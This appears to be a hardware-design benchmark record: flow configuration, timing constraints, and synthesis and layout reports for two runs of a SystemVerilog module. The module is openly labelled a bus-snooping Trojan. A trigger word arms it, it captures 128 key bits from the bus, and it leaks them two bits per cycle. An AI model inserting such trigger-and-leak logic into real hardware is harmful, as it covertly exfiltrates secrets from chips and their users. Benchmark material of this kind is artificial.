### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_param
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_leak_param.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_UTILIZATION = 59
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.8
export SLEW_MARGIN = 25
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
### constraint.sdc
create_clock -name clk -period 2.63 [get_ports clk]
set_input_delay 0.526 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.526 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
### src/rtl/trojan_leak_param.sv
// Bus-snooping trigger/capture/leak Trojan benchmark: a trigger word arms it, KEY_W bits are
// captured from one bus lane, then shifted out LEAK_W bits per cycle, LSB slice first.
module trojan_leak_param #(
  parameter int unsigned              DATA_W   = 64,
  parameter int unsigned              TRIG_W   = 48,
  parameter logic [TRIG_W-1:0]        TRIG_VAL = 48'h0000_0044_ab93,
  parameter int unsigned              CAP_W    = 32,
  parameter int unsigned              KEY_W    = 128,
  parameter int unsigned              LEAK_W   = 2,
  parameter int unsigned              REARM    = 0
) (
  input  logic              clk,
  input  logic              rst_all,
  input  logic [DATA_W-1:0] data,
  output logic              leak_en,
  output logic [LEAK_W-1:0] leak_bits,
  output logic              busy,
  output logic              done
);

  localparam int unsigned NLANE  = DATA_W / CAP_W;
  localparam int unsigned LSEL_W = (NLANE > 1) ? $clog2(NLANE) : 1;
  localparam int unsigned NCAP   = KEY_W / CAP_W;
  localparam int unsigned NLEAK  = KEY_W / LEAK_W;
  localparam int unsigned BEAT_W = (NCAP > 1) ? $clog2(NCAP) : 1;
  localparam int unsigned LCNT_W = $clog2(NLEAK) + 1;

  typedef enum logic [2:0] {
    S_IDLE,
    S_CAPTURE,
    S_LEAK,
    S_DONE,
    S_LOCK
  } state_t;

  state_t              state_q, state_d;
  logic [KEY_W-1:0]    key_q, key_d;
  logic [LSEL_W-1:0]   lane_q, lane_d;
  logic [BEAT_W-1:0]   beat_q, beat_d;
  logic [LCNT_W-1:0]   cnt_q, cnt_d;

  logic                trig_hit;
  logic [LSEL_W-1:0]   lane_raw;
  logic [CAP_W-1:0]    lane_word;

  assign trig_hit  = (data[TRIG_W-1:0] == TRIG_VAL);
  assign lane_raw  = data[TRIG_W +: LSEL_W];
  assign lane_word = data[lane_q*CAP_W +: CAP_W];

  always_ff @(posedge clk) begin
    if (rst_all) begin
      state_q <= S_IDLE;
      key_q   <= '0;
      lane_q  <= '0;
      beat_q  <= '0;
      cnt_q   <= '0;
    end else begin
      state_q <= state_d;
      key_q   <= key_d;
      lane_q  <= lane_d;
      beat_q  <= beat_d;
      cnt_q   <= cnt_d;
    end
  end

  always_comb begin
    state_d = state_q;
    key_d   = key_q;
    lane_d  = lane_q;
    beat_d  = beat_q;
    cnt_d   = cnt_q;
    case (state_q)
      S_IDLE: begin
        if (trig_hit) begin
          // Out-of-range lane selections fall back to lane 0.
          lane_d  = (32'(lane_raw) < NLANE) ? lane_raw : '0;
          beat_d  = '0;
          state_d = S_CAPTURE;
        end
      end
      S_CAPTURE: begin
        key_d[beat_q*CAP_W +: CAP_W] = lane_word;
        beat_d = beat_q + 1'b1;
        if (beat_q == BEAT_W'(NCAP - 1)) begin
          cnt_d   = '0;
          state_d = S_LEAK;
        end
      end
      S_LEAK: begin
        key_d = {{LEAK_W{1'b0}}, key_q[KEY_W-1:LEAK_W]};
        cnt_d = cnt_q + 1'b1;
        if (cnt_q == LCNT_W'(NLEAK - 1)) begin
          state_d = S_DONE;
        end
      end
      S_DONE: begin
        state_d = (REARM != 0) ? S_IDLE : S_LOCK;
      end
      S_LOCK: begin
        state_d = S_LOCK;
      end
      default: begin
        state_d = S_IDLE;
      end
    endcase
  end

  always_comb begin
    leak_en   = (state_q == S_LEAK);
    leak_bits = leak_en ? key_q[LEAK_W-1:0] : '0;
    busy      = (state_q == S_CAPTURE) || (state_q == S_LEAK);
    done      = (state_q == S_DONE);
  end

endmodule

# [Word level (Yosys, flattened, before mapping)]
# Cells that the tools add are included.
[word_totals] ff_bits=141 out_inout_bits=5
[classes] add_sub_neg=3 n_eq_ne=10 shifts=3 mux=11 reduce_logical=9
[op_table] cell="$pmux 128 s2" n=1
[op_table] cell="$bwmux 128" n=1
[op_table] cell="$shift 32x34->128 const A" n=1
[op_table] cell="$shiftx 32x34->128" n=1
[op_table] cell="$shiftx 64x7->32" n=1
[op_table] cell="$eq 48x23->1 const B" n=1
[op_table] cell="$neg 7->34" n=1
[op_table] cell="$pmux 7 s2" n=1
[op_table] cell="$pmux 3 s4" n=1
[op_table] cell="$mux 3" n=3
[op_table] cell="$add 7x1->7 const B" n=1
[op_table] cell="$eq 7x6->1 const B" n=1
[op_table] cell="$mux 7" n=1
[op_table] cell="$eq 3x2->1 const B" n=2
[op_table] cell="$reduce_and 2->1" n=3
[op_table] cell="$mux 2" n=2
[op_table] cell="$ne 2x2->1 const B" n=2
[op_table] cell="$pmux 2 s2" n=1
[op_table] cell="$reduce_bool 2->1" n=2
[op_table] cell="$eq 3x1->1 const B" n=1
[op_table] cell="$eq 3x3->1 const B" n=1
[op_table] cell="$logic_not 3->1" n=1
[op_table] cell="$reduce_and 3->1" n=1
[op_table] cell="$add 2x1->2 const B" n=1
[op_table] cell="4 further kinds" n=4

# [Depth between registers and ports, before layout]
# Gate-level depths: netlist of the first run.
[depth] word_depth=4 ltp_mapped=7

# [Worst setup path before layout of the first run]
# No wires, ideal clock.
[synth_path] kind="register -> register" startpoint="register beat_q[0]" endpoint="register key_q[29]" setup_time_ns=0.081 t_arrival_ns=1.907 required_ns=2.549 slack_ns=0.642 stages_incl_launch_ff=7 path_buffers=1 period_less_slack_ns=1.988 cell_sequence="dfxtp_1 -> inv_4 -> ha_1 -> nor4b_4 -> buf_6 -> a22oi_1 -> a211oi_2"
[synth_via] elab_chain_len=4
[synth_lines] element="start: declaration" line="39" source="logic [BEAT_W-1:0] beat_q, beat_d;"
[synth_lines] element="start signal: assignment" line="61" source="beat_q <= beat_d;"
[synth_lines] element="$neg 7->34 *" line="82" source="key_d[beat_q*CAP_W +: CAP_W] = lane_word;"
[synth_lines] element="$shiftx 32x34->128 or $shift 32x34->128 (tied branches)" line="82"
[synth_lines] element="$bwmux 128 *" line="82"
[synth_lines] element="$pmux 128 s2 *" line="72" source="case (state_q)"
[synth_lines] element="end signal: assignment" line="59" source="key_q <= key_d;"
[synth_lines] element="end: declaration" line="37" source="logic [KEY_W-1:0] key_q, key_d;"
# Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
# A chain may end at the register's enable or synchronous reset.

# [Worst setup path after layout of the first run]
[layout_path] startpoint="register state_q[1]" endpoint="output port leak_bits[1]"
[layout_via] elab_chain_len=2
[layout_lines] element="start: declaration" line="36" source="state_t state_q, state_d;"
[layout_lines] element="start signal: assignment" line="58" source="state_q <= state_d;"
[layout_lines] element="$eq 3x2->1" line="109" source="leak_en = (state_q == S_LEAK);"
[layout_lines] element="$mux 2" line="110" source="leak_bits = leak_en ? key_q[LEAK_W-1:0] : '0;"
[layout_lines] element="end: declaration" line="16" source="output logic [LEAK_W-1:0] leak_bits,"
# Every way passes these cells.

==> flow_summary.yaml, run 1 <==
yosys:
  syn_area_mm2: 0.00723
  synth_edf_count: 0
  synth_compound_area_share_pct: 33.3
  synthesis.nets: 799
  muxShareOfSynthArea_pct: 5.28
  synth_top_area_cell: "dfxtp_1"
  synth_area_leaders: "dfxtp_1 39%, a211oi_2 11%, a22oi_2 8.7%"
  synth_top_cell_area_share_pct: 39.1
  postSynthAreaPerCell_um2: 9.93
  synth_warnings: 0
  synthFlopType: "dfxtp_1"
  synth-xor-area-share_pct: 0
  syn-instance-count: 728
  async_reset_ff_share_pct: 0
  post_synth_num_cell_types: 48
  synth_fa_ha_area_share_pct: 0.866
  yosys.area_share.simple_pct: 14.0
  synth_top_cells_by_count: "141 x dfxtp_1, 114 x nor2_1, 65 x a211oi_2"
  ys_seq_elements: 141
  seq_area_frac_synth_pct: 39.1
  synth.most_common_cell: "dfxtp_1"
  synth_top_family_by_area: "compound AO/OA/AOI/OAI gates"
power:
  seqPwrFrac_pct: 43.1
  p_switching_mw: 1.05
  p_int_mw: 3.91
  switching_share_pct: 21.1
  irDropWorstVdd_mv: 0.677
  clock_power_share_pct: 52.3
  leakage_nw: 2.89
  p_comb_share_pct: 4.6
  power_density_mw_per_mm2: 600
clock_network:
  post_cts_buffers: 0
  numCtsBuffers: 17
  clock-sinks: 141
  h-tree-depth: 4
  cts_tree: "done"
  path_clk_slew_ps: 60
  cts_hold_buf: 0
  clock_path_buffers: 2
  cts_resized: 0
  clock-root-buffer: "clkbuf_16"
  clk-insertion-delay-late_ps: 420
setup_path:
  rr_worst_depth: 5
  arrival_ps: 1980
  rr_endpoint: "key_q[103]"
  worstSetupEndpointType: "output port"
  r2r-start: "beat_q[0]"
  cp_max_fo: 22
  path_class: "reg -> out"
  worstSetupStartpointType: "flop"
  cp.required_ps: 2100
  rrSetupSlack_ps: 230
global_route:
  grt-ovfl-total: 0
  grt.total_usage_pct: 30.6
  grt_pass1_vias: 5923
  antenna_found_initial: 0
  grt_pass1_wl_um: 30400
  grt_max_degree: 66
sta:
  finalSetupTns_ps: 0
  hold_viol: 0
  setup_violations: 0
  max_slew.worst_pin.slew_ps: 676
  slew_violations: 0
  timing.fmax_ghz: 0.398
  setup_ws_ps: 121
  min_period_ps: 2510
  relSlewSlack_pct: 54.9
  grt_setup_unrepaired: "false"
  fin_skew_ps: 8.66
  finalCritPeriodShare_pct: 95.4
place:
  portBuffers: 70
  place_ws_ps: 304
  post-dp-hpwl_um: 11800
  gp_congestion: 0.791
floorplan:
  row_count: 40
  fp.dieW_um: 113
  coreArea_mm2: 0.0120
  ioPinCount: 71
  dieArea_mm2: 0.0127
  die_h_um: 113
  start_util_pct: 60.4
status:
  outcome: "completed"
finish:
  area_growth_pct: 14.4
  multiInputGateArea_mm2: 0.00388
  fillers: 851
  n_antenna_cell: 0
  finalNetCount: 838
  drive_above_1_share_pct: 36.4
  seq_area_mm2: 0.00282
detailed_routing:
  drt-initial-drc-count: 661
  wl_per_cell_um: 20.2
  dr.max_layer_used: "met4"
  vias: 6100
  vias_per_cell: 6.58
  met1_length_um: 7780
  wirelength_um: 18700
  wl_met3_um: 1050
  dr_wl_met2_um: 9290
  route.detailed.drc: 0
  first_pass_iters: 5
  antenna_left: 0
min_path:
  min_path_type: "in -> reg"
  hp-start: "data[48]"
  holdPathEnd: "lane_q"
  min_path_cells: 3
flow_run:
  max-cap-violations: 0
kinds of logic after synthesis:
logic type | Yosys count
AOI/OAI and AO/OA | 245
adders and majority gates | 5
buffers and inverters | 102
DFF | 141
muxes | 34
and+or+nand+nor | 201
routing by layer:
metal  up-vias  global-route usage [%]
met3        50                    4.75
met1      2965                    37.6
met4         0                    16.1
met2       241                    51.7
met5         -                       0
li1       2844                       -
cell type report:
| type | count | area share [%] |
|---|---|---|
| multi-input cells | 485 | 47.0 |
| flip-flops and latches | 141 | 34.2 |
| repair buffers | 92 | 7.37 |
| clock buffers | 22 | 5.86 |
| well taps | 147 | 2.23 |
| clock inverters | 10 | 1.94 |
| inverters | 30 | 1.45 |
cells in the final DEF (no fill, tap or decap), types with 5 or more instances in the layout:
cell type	synthesis	final
clkbuf_2	0	69
nor2_1	114	114
nor4b_1	5	5
dfxtp_1	141	141
a221oi_1	37	37
ha_1	5	5
nor4_1	5	5
a22oi_2	50	50
a211oi_2	65	65
a22oi_1	40	40
o22ai_1	27	27
inv_1	28	28
nand2_1	8	8
buf_4	8	15
mux2_2	33	33
a21oi_1	10	9
nand3b_1	6	6
buf_12	0	7
nor3_1	39	39
clkbuf_16	0	17
per-stage QoR:
stage | utilization [%] | instances | power [mW] | hold WS (ps) | instance area [um^2]
finish | 69.1 | 927 | 4.96 | 430 | 8270
global route | 69.1 | 927 | 5.07 | 433 | 8270
CTS | 69.1 | 927 | 4.97 | 418 | 8260
detailed placement | 63.7 | 895 | 2.41 | 451 | 7620
global placement | 63.7 | 895 | 2.40 | 449 | 7620
floorplan | - | 728 | 2.31 | 433 | 7230
critical path: stages, from the launching register on:
cell and delay (ps):
dfxtp_1 520, or3b_4 480, inv_6 230, and2_1 180, clkbuf_2 140
flip-flops by register name (all words and copies together), names as in the netlist:
register,count
beat_q,2
cnt_q,7
key_q,128
lane_q,1
state_q,3
power by group through the flow:
stage               clock network [mW]  registers (mW)  logic [mW]
floorplan                            0            2.18       0.122
global placement                     0            2.18       0.218
detailed placement                   0            2.18       0.223
CTS                               2.61            2.14       0.225
global route                      2.69            2.14       0.242
finish                            2.59            2.14       0.229
worst max path at each step:
stage                          start      endpoint  slack (ps)  depth (start not counted)
after CTS                 state_q[1]  leak_bits[1]         110                          4
after detailed placement   beat_q[0]    key_q[118]         300                          5
final                     state_q[1]  leak_bits[1]         120                          4
after global routing      state_q[1]  leak_bits[1]          40                          4
after floorplan            beat_q[0]     key_q[29]         640                          6
after global placement     beat_q[0]      cnt_q[3]         390                          6
Power figures use the tool's default switching activity.
==> run 2, diff against run 1 <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 2.63 [get_ports clk]
set_input_delay 0.526 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.526 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
==> flow_summary.yaml, run 2 (synthesis results as in run 1) <==
status:
  outcome: "completed"
setup_path:
  crit_chain: "or3b_4, inv_12, and2_1, clkbuf_2"
  cp.depth: 4
  worstSetupStartpointType: "flop"
  crit_family: "simple AND/OR/NAND/NOR gates"
  critPathSlowestCell: "or3b_4"
  arrival_ps: 1970
  rrSetupSlack_ps: 180
  rr_worst_depth: 7
  worstSetupEndpointType: "output port"
  startpoint: "state_q[1]"
  cpPeakStageDelay_ps: 480
  r2r-start: "beat_q[0]"
  rr_endpoint: "key_q[88]"
  critPathCapture: "leak_bits[0]"
  path_class: "reg -> out"
  cp.buffers_inverters: 2
  cp.required_ps: 2100
  cp_max_fo: 36
clock_network:
  h-tree-depth: 4
  clock-root-buffer: "clkbuf_16"
  cts_tree: "done"
  clock-sinks: 141
  path_clk_slew_ps: 60
  cts_hold_buf: 0
  numCtsBuffers: 17
  clk-insertion-delay-late_ps: 430
  post_cts_buffers: 0
  clock_path_buffers: 2
floorplan:
  dieArea_mm2: 0.0127
  ioPinCount: 71
  die_h_um: 113
  coreArea_mm2: 0.0120
  row_count: 40
  fp.dieW_um: 113
  start_util_pct: 60.4
detailed_routing:
  wirelength_um: 18400
  route.detailed.drc: 0
  antenna_left: 0
  drt-initial-drc-count: 683
  vias_per_cell: 6.55
  first_pass_iters: 6
  vias: 6066
  wl_per_cell_um: 19.9
global_route:
  grt-ovfl-total: 0
  antenna_found_initial: 0
  grt_pass1_wl_um: 30300
  grt_max_degree: 72
  grt_pass1_vias: 5889
  grt.total_usage_pct: 30.5
sta:
  slew_violations: 0
  grt_setup_unrepaired: "false"
  max_slew.worst_pin.slew_ps: 552
  finalSetupTns_ps: 0
  relSlewSlack_pct: 62.9
  fin_skew_ps: 6.86
  finalCritPeriodShare_pct: 94.9
  timing.fmax_ghz: 0.401
  fin_hold_ws_ps: 403
  hold_viol: 0
  min_period_ps: 2500
  setup_violations: 0
min_path:
  min_path_cells: 3
  min_path_type: "in -> reg"
finish:
  regMostFlops: "key_q"
  n_antenna_cell: 0
  fillers: 910
  layout.cells.non_filler: 926
  largest_reg_flops: 128
  final_common_cell: "dfxtp_1"
  final_cell_mix: "140 x dfxtp_1, 114 x nor2_1, 68 x clkbuf_2"
  drive_above_1_share_pct: 36.3
  multiInputGateArea_mm2: 0.00388
  top_regs: "key_q (128), cnt_q (7), state_q (3)"
  seq_area_mm2: 0.00282
  finalNetCount: 837
  area_growth_pct: 14.2
power:
  irDropWorstVdd_mv: 0.473
  leakage_nw: 2.88
  power_density_mw_per_mm2: 607
place:
  gp_congestion: 0.810
  portBuffers: 70
  placed_cells: 894
  post-dp-hpwl_um: 11600
flow_run:
  max-cap-violations: 0
## run 2: changes by cell type in the layout (fill, tap and decap cells not counted), sizes merged
| cell | previous run | this run |
|---|---|---|
| clkinv | 5 | 4 |
| clkbuf | 91 | 86 |
| bufinv | 4 | 5 |
| inv | 30 | 33 |
| clkinvlp | 1 | 2 |
## run 2: worst min path at each step
| stage | endpoint | slack, ps | from |
|---|---|---|---|
| 2_1_floorplan | key_q[126] | 430 | key_q[126] |
| 3_3_place_gp | key_q[127] | 450 | key_q[127] |
| 3_5_place_dp | key_q[127] | 450 | key_q[127] |
| 4_1_cts | lane_q | 410 | data[48] |
| 5_1_grt | lane_q | 390 | data[48] |
| 6_report | lane_q | 400 | data[48] |
## run 2: metal layers
metal | vias to the layer above | share of wire, % | GRT usage [%]
li1 | 2842 | - | -
met3 | 30 | 5.4 | 7.13
met4 | 0 | 2.1 | 12.6
met5 | - | 0 | 0
met1 | 2991 | 43 | 38.8
met2 | 203 | 50 | 49.8
## run 2: cell type report
type | instances | area share (%)
timing repair buffer | 91 | 7.17
inverter | 30 | 1.55
multi-input combinational | 485 | 47.0
clock inverter | 14 | 2.61
sequential | 141 | 34.2
tap | 147 | 2.23
clock buffer | 18 | 5.20
## run 2: report_power, final
part	leakage (nW)	internal (mW)	switching, mW
clock network	0.311	1.69	0.968
registers	1.14	2.14	0.000000000000638
logic	1.43	0.0851	0.139
## run 2: timing repair
action | 4_1_cts | 5_1_grt
setup endpoints to repair | 2 | 2
resized for setup | 2 | 1
gates cloned | 0 | 0
## run 2: through the flow
step | total power [mW] | instance area (um^2) | worst slack (ps) | utilization, %
after floorplan | 2.31 | 7230 | 274 | -
after global placement | 2.40 | 7600 | 361 | 63.6
after detailed placement | 2.40 | 7600 | 242 | 63.6
after CTS | 5.02 | 8250 | 35.6 | 69.0
after global routing | 5.14 | 8260 | 23.7 | 69.0
final | 5.01 | 8260 | 134 | 69.0
## run 2: worst register-to-register path: cells and delay by family, from the launching register on
| kind | cells | cell delay [ps] |
|---|---|---|
| DFF | 1 | 630 |
| and+or+nand+nor | 3 | 610 |
| buffers and inverters | 2 | 480 |
| adders and majority gates | 1 | 460 |
| AOI/OAI and AO/OA | 1 | 160 |
